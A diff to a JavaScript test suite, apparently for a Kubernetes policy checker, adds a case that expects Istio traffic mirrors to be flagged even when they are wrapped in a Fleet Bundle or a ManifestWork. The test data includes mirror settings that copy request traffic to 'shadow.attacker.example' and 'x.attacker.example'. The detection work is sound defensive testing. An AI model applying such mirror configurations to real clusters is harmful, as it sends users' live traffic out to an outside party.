@@ -94,6 +94,14 @@ describe('traffic_mirrored: mesh and gateway routes', () => {
     expect(codes(write(`${VS}/checkout`, [{ op: 'add', path: '/spec/http/0/mirror', value: { host: 'x.attacker.example' } }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
   });
 
+  it('reads a mirror a GitOps wrapper carries: a Fleet Bundle\'s files, a ManifestWork', () => {
+    const file = `apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: {name: checkout, namespace: shop}\nspec:\n  hosts: [checkout]\n  http:\n  - route: [{destination: {host: checkout}}]\n    mirror: {host: shadow.attacker.example}\n`;
+    const bundle = { apiVersion: 'fleet.cattle.io/v1alpha1', kind: 'Bundle', metadata: { name: 'shop', namespace: 'fleet-default' }, spec: { resources: [{ name: 'vs.yaml', content: file }] } };
+    expect(codes(write('/apis/fleet.cattle.io/v1alpha1/namespaces/fleet-default/bundles', bundle))).toEqual(MIRRORED);
+    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-1' }, spec: { workload: { manifests: [vs([{ ...route, mirror: { host: 'shadow.attacker.example' } }])] } } };
+    expect(codes(write('/apis/work.open-cluster-management.io/v1/namespaces/edge-1/manifestworks', work))).toEqual(MIRRORED);
+  });
+
   it('asks nothing of a shadow to the namespace\'s own Service, nor of retries, timeouts and faults', () => {
     expect(codes(write(VS, vs([{ ...route, mirror: { host: 'checkout', subset: 'v2' }, mirrorPercentage: { value: 10 } }])))).toEqual([]);
     expect(codes(write(VS, vs([{ ...route, mirrors: [{ destination: { host: 'checkout-v2.shop.svc.cluster.local' } }] }])))).toEqual([]);
